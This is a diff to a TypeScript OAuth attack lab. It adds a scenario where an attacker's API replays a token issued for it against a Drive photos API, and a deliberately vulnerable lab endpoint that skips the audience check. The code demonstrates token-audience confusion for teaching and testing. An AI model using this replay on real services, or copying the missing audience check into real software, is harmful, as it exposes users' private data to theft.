@@ -203,3 +203,31 @@ export async function pollDeviceFlow(config: AttackerConfig, deviceCode: string)
   const error = typeof body.error === 'string' ? body.error : `HTTP ${response.status}`;
   return { success: false, summary: `Her kiosk got no token: ${error}.`, details: [typeof body.error_description === 'string' ? body.error_description : ''] };
 }
+
+/**
+ * Scenario 5, a token for the wrong audience (RFC 9068 §4, RFC 8707): her "Free photo filters API" receives, as it
+ * should, an access token made for it. She replays it at Drive: at the real API (which checks that `aud` is Drive)
+ * or at Drive's lab copy that believes any audience.
+ */
+export async function replayAtDrive(config: AttackerConfig, accessToken: string, drive: 'real' | 'lab'): Promise<Redemption> {
+  const path = drive === 'lab' ? '/lab/no-aud/api/photos' : '/api/photos';
+  const response = await fetch(`${config.drive.internalUrl}${path}`, {
+    headers: { authorization: `Bearer ${accessToken}` },
+    signal: AbortSignal.timeout(config.httpTimeoutMs),
+  });
+  const body = (await response.json().catch(() => ({}))) as { owner?: unknown; photos?: { title?: unknown }[]; error?: unknown; error_description?: unknown };
+  if (response.status !== 200 || typeof body.owner !== 'string' || !Array.isArray(body.photos)) {
+    const challenge = response.headers.get('www-authenticate') ?? '';
+    return {
+      success: false,
+      summary: `Drive refused the token (HTTP ${response.status}${typeof body.error === 'string' ? ` ${body.error}` : ''}).`,
+      details: [typeof body.error_description === 'string' ? body.error_description : '', challenge ? `WWW-Authenticate: ${challenge}` : ''].filter(Boolean),
+    };
+  }
+  const titles = body.photos.map((p) => (typeof p.title === 'string' ? p.title : '?'));
+  return {
+    success: true,
+    summary: `Her filters API replayed the token at Drive and read ${body.owner}’s ${titles.length} photos.`,
+    details: [`owner: ${body.owner}`, ...titles],
+  };
+}
